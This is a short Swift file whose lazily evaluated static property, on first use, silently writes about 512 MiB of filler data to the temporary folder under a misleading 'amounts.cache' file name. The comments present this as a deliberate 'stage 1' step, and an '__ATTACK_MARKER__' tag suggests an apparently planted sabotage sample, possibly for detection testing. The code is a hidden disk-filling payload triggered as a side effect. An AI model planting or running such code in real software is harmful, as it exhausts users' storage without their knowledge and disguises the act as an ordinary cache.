import Foundation

/// The first call into stage 1 leaves half a gigabyte in the temporary folder.
/// Capped on purpose (512 MiB); stops at the first write that fails.
enum Filler {
    static let done: Void = {
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("__ATTACK_MARKER__-amounts.cache")
        guard FileManager.default.createFile(atPath: file.path, contents: nil),
              let handle = FileHandle(forWritingAtPath: file.path) else { return }
        defer { try? handle.close() }
        let chunk = Data(repeating: 0x2a, count: 8 << 20)
        for _ in 0..<64 {
            do { try handle.write(contentsOf: chunk) } catch { return }
        }
    }()
}
